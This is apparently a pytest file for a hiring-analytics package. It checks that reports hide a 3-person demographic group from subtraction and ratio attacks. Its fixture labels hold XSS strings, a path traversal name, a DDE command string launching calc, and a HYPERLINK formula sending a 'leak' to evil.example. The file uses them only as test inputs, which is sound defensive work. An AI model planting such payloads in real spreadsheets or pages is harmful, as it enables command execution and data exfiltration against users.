"""Suppression attacked across all the tables of a report (issue 11, items 1 and 2).

The hostile study has a 3-person group beside a 12-person one (the smallest cell that
can protect it by complementary suppression), with script and formula payloads as
labels, a traversal name and numeric ids. Every report that reads a study runs on it;
then the tests try to recover the 3-person group's counts by subtraction across all the
published CSV tables and by ratios (crude impact and odds ratios, reference rates), and
read the executive summary. The injection attacks themselves are in
``test_report_security.py``.
"""

from __future__ import annotations

from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import interviewlab as il

pytestmark = pytest.mark.slow  # every test here runs reports

SCRIPT = '<script>alert("tiny")</script>'
FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
HANDLER = "<img src=x onerror=alert(1)>"
CMD = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)"
TRAVERSAL = "demo/../../victim"
DESCRIPTION = (
    '<script>alert(document.cookie)</script><iframe src="javascript:alert(2)"></iframe> '
    "[click me](javascript:alert(3)) <a href='javascript:alert(4)'>x</a>"
)
# the reports run on the hostile study (panel_training simulates its own data)
REPORTS = {
    "study_overview": {},
    "adverse_impact_audit": {},
    "reliability": {"n_boot": 100, "n_boot_reml": 0},
    "panel_effects": {},
    # the demo's machine scores and hiring rounds come along (tables per group and round)
    "automated_scores": {"n_boot": 200},
    "over_time": {"n_boot": 100},
}
TINY, COMPLEMENT = 3, 12


def _hostile_study(folder: Path) -> Path:
    demo = il.load_study("demo")
    rng = np.random.default_rng(12)
    cand = demo.candidates.copy()
    keep = cand[cand["ethnicity"].isin(["White", "Asian", "Black"])]
    keep = keep.iloc[rng.permutation(len(keep))[:300]].copy()
    # ethnicity: White, Asian, Black, plus a 3-person and a 12-person group, both with
    # applicants who pass and fail the first stages
    # rated applicants (those who completed the async step) outside the reference group
    rest = keep.index[(keep["ethnicity"] != "White") & (keep["completed_async"] == 1)]
    tiny = rest[:TINY]
    comp = rest[TINY : TINY + COMPLEMENT]
    keep.loc[tiny, "ethnicity"] = SCRIPT
    keep.loc[comp, "ethnicity"] = FORMULA
    stages = ["completed_async", "shortlisted", "appointed"]
    # one tiny-group applicant is shortlisted and appointed, one shortlisted, one not
    outcomes = pd.DataFrame([[1, 1, 1], [1, 1, 0], [1, 0, 0]], index=tiny, columns=stages)
    keep.loc[tiny, stages] = outcomes.astype(keep[stages].dtypes.to_dict())
    keep["sex"] = keep["sex"].replace({"male": HANDLER})
    keep["age_band"] = keep["age_band"].replace({"under 30": CMD})
    keep["disability"] = keep["disability"].replace({"yes": AT})
    ids = {old: str(i + 1) for i, old in enumerate(keep["candidate_id"])}
    keep["candidate_id"] = keep["candidate_id"].map(ids)
    ratings = demo.ratings[demo.ratings["candidate_id"].isin(ids)].copy()
    ratings["candidate_id"] = ratings["candidate_id"].map(ids)
    questions = {q: str(i + 1) for i, q in enumerate(demo.meta["rubric"]["questions"])}
    ratings["question_id"] = ratings["question_id"].map(questions)
    machine = demo.automated_scores
    machine = machine[machine["candidate_id"].isin(ids)].copy()
    machine["candidate_id"] = machine["candidate_id"].map(ids)
    machine["question_id"] = machine["question_id"].map(questions)
    meta = {k: v for k, v in demo.meta.items() if k != "planted"}
    meta["name"] = TRAVERSAL
    meta["description"] = DESCRIPTION
    meta["source"] = f"{HANDLER} {FORMULA}"
    meta["licence"] = "=1+1"
    meta["rubric"] = {**demo.meta["rubric"], "questions": list(questions.values())}
    study = il.Study(
        meta=meta,
        candidates=keep.reset_index(drop=True),
        ratings=ratings,
        raters=demo.raters,
        automated_scores=machine,
    )
    path = study.save(folder / "hostile")
    return path


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    base = tmp_path_factory.mktemp("attack")
    study = _hostile_study(base / "input")
    out = base / "out"
    folders = {
        name: il.run_report(name, study=study, out=out, params=params, progress=False)
        for name, params in REPORTS.items()
    }
    return {**folders, "_out": out, "_study": study}


def _tables(folder: Path) -> dict[str, pd.DataFrame]:
    return {
        p.stem: pd.read_csv(p, dtype=str, keep_default_na=False)
        for p in sorted((folder / "tables").glob("*.csv"))
    }


def _counts_by_label(tables: dict[str, pd.DataFrame]) -> dict[tuple[str, str], set[str]]:
    """Every (table, column) in which each label appears with a non-empty count."""
    seen: dict[tuple[str, str], set[str]] = {}
    count_cols = (
        "n",
        "n_focal",
        "n_reference",
        "n_candidates",
        "entered",
        "applicants",
        "n_group",
        "n_targets",
        "selected",
        "passed",
    )
    for tname, table in tables.items():
        for col in table.columns:
            labels = table[col]
            for count in count_cols:
                if count not in table.columns or count == col:
                    continue
                shown = table[count].str.strip() != ""
                for label in labels[shown]:
                    seen.setdefault((label, count), set()).add(f"{tname}.{col}")
    return seen


@pytest.mark.parametrize("name", list(REPORTS))
def test_tiny_group_and_its_complement_never_shown(attacked: dict[str, Path], name: str) -> None:
    # the subtraction attack needs the complement's count somewhere: overall totals minus
    # every other shown group then give the tiny one. Neither is ever shown with a count.
    seen = _counts_by_label(_tables(attacked[name]))
    for label in (SCRIPT, FORMULA, "'" + FORMULA):
        leaks = {k: v for k, v in seen.items() if k[0] == label}
        assert not leaks, leaks


def _number(value: str) -> float:
    return float(value) if value.strip() else np.nan


def test_subtraction_and_ratio_attacks_fail(attacked: dict[str, Path]) -> None:
    """Recover the 3-person group's counts from all tables of all reports: it must fail."""
    tables = {
        f"{name}/{t}": table for name in REPORTS for t, table in _tables(attacked[name]).items()
    }
    stages = ["completed_async", "shortlisted", "appointed"]
    hostile = il.load_study(attacked["_study"])
    truth = hostile.candidates
    tiny_truth = int((truth["ethnicity"] == SCRIPT).sum())
    assert tiny_truth == TINY
    # 1. subtraction: the total of a stage minus every ethnicity shown at that stage
    totals = tables["study_overview/stages"].set_index("stage")
    known: dict[str, dict[str, float]] = {}
    for table in tables.values():
        if "ethnicity" in table.columns and "entered" in table.columns:
            for row in table.itertuples():
                value = _number(row.entered)
                if not np.isnan(value):
                    known.setdefault(row.stage, {})[row.ethnicity] = value
        if "focal" in table.columns and "n_focal" in table.columns:
            for row in table.itertuples():
                value = _number(row.n_focal)
                if not np.isnan(value):
                    known.setdefault(row.stage, {})[row.focal] = value
    labels = set(truth["ethnicity"].dropna()) | {""}
    for stage in stages:
        total = _number(totals.loc[stage, "n_entering"])
        shown = known.get(stage, {})
        unknown = labels - set(shown) - {"'" + lab for lab in shown}
        # the remainder is shared by at least two hidden groups: the tiny one is not alone
        assert len(unknown) >= 2 or np.isnan(total), (stage, unknown)
    # 2. ratios: every row naming the tiny or complementary group has no figure
    for tname, table in tables.items():
        for col in table.columns:
            if col == "suppression":
                continue
            rows = table[table[col].isin([SCRIPT, FORMULA, "'" + FORMULA])]
            if rows.empty:
                continue
            for ratio in (
                "crude_impact_ratio",
                "crude_odds_ratio",
                "reference_rate",
                "rate",
                "impact_ratio",
                "odds_ratio",
                "stage_rate",
                "mean",
                "n_focal",
            ):
                if ratio in rows.columns:
                    assert (rows[ratio].str.strip() == "").all(), (tname, col, ratio)
    # 3. sentences: the executive summary names no hidden group (so none of its rates)
    html = (attacked["adverse_impact_audit"] / "adverse_impact_audit.html").read_text()
    summary = html[html.index('id="Executive-summary"') : html.index('id="The-funnel')]
    assert "tiny" not in summary and "HYPERLINK" not in summary
    # and the report says which groups were hidden, and why (its own mark per reason)
    assert "Groups hidden in some rows" in html and "–†" in html


def test_rater_drf_never_names_a_group_under_the_minimum(attacked: dict[str, Path]) -> None:
    # a rater's DRF row compares groups; the minimum applies to the smallest of them
    tables = _tables(attacked["reliability"])
    drf = [t for name, t in tables.items() if name.startswith("rater_drf_")]
    assert drf
    for table in drf:
        shown = table[table["drf_low_group"].str.strip() != ""]
        assert (shown["drf_min_candidates"].astype(float) >= 10).all()
        assert not shown["drf_low_group"].isin([SCRIPT, FORMULA, "'" + FORMULA]).any()
